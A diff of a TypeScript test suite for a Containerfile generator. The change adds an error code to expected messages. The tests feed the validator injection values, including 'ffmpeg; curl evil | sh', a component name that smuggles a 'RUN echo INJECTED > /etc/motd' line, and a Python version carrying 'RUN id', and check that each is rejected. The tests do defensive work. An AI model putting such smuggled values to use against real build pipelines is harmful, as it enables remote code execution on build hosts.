@@ -129,7 +129,7 @@ describe('the Node and Tailwind of the example', () => {
       stageContext({ workspaceRoot: root, dir, data: containerfileData(inputs), containerfile: 'forge/Containerfile', uv: '/bin/true' }),
     );
     expect(e.message).toContain(
-      'extensions/atelier/static/tailwind.css: error: is where the Forge puts the CSS built from the merged Tailwind config',
+      'extensions/atelier/static/tailwind.css: error[LYCHD600]: is where the Forge puts the CSS built from the merged Tailwind config',
     );
     expect(e.message).not.toContain('extensions/oracle');
     expect(fs.existsSync(dir)).toBe(false);
@@ -171,7 +171,7 @@ describe('what never reaches the Containerfile', () => {
     bad.components[1]!.path = '../outside';
     const e = forgeError(() => containerfileData({ ...inputs, manifest: bad }));
     expect(e.diagnostics.map((d) => d.field).sort()).toEqual(['components[1].path', 'system[0].spec']);
-    expect(e.message).toContain('forge/synthesis.lock.json: error: "ffmpeg; curl evil | sh" is not a Debian package name');
+    expect(e.message).toContain('forge/synthesis.lock.json: error[LYCHD600]: "ffmpeg; curl evil | sh" is not a Debian package name');
   });
 
   it('rejects a component name or a Python version that would write its own line', () => {
@@ -181,7 +181,9 @@ describe('what never reaches the Containerfile', () => {
       containerfileData({ ...inputs, manifest: bad, python: '3.11\nRUN id', base: { ...inputs.base, python: '3.11 x' } }),
     );
     expect(e.diagnostics.map((d) => d.field).sort()).toEqual(['components[1].name', 'forge.base', 'forge.python', 'forge.python']);
-    expect(e.message).toContain('forge/synthesis.lock.json: error: "atelier\\nRUN echo INJECTED > /etc/motd\\n#" is not a component name');
+    expect(e.message).toContain(
+      'forge/synthesis.lock.json: error[LYCHD600]: "atelier\\nRUN echo INJECTED > /etc/motd\\n#" is not a component name',
+    );
     expect(e.message).not.toContain('\nRUN echo INJECTED');
   });
 
@@ -197,7 +199,9 @@ describe('what never reaches the Containerfile', () => {
   it('rejects a locked file name that is not a plain .deb name', () => {
     const e = forgeError(() => containerfileData({ ...inputs, debs: [debs[0]!, 'x_1_all.deb; curl evil | sh', '../up_1_all.deb'] }));
     expect(e.diagnostics.map((d) => d.field)).toEqual(['packages[1].filename', 'packages[2].filename']);
-    expect(e.message).toContain('forge/synthesis/debian.lock.json: error: "x_1_all.deb; curl evil | sh" is not a plain .deb file name');
+    expect(e.message).toContain(
+      'forge/synthesis/debian.lock.json: error[LYCHD600]: "x_1_all.deb; curl evil | sh" is not a plain .deb file name',
+    );
   });
 
   it('says which Pythons disagree with forge.python, and where it is set', () => {
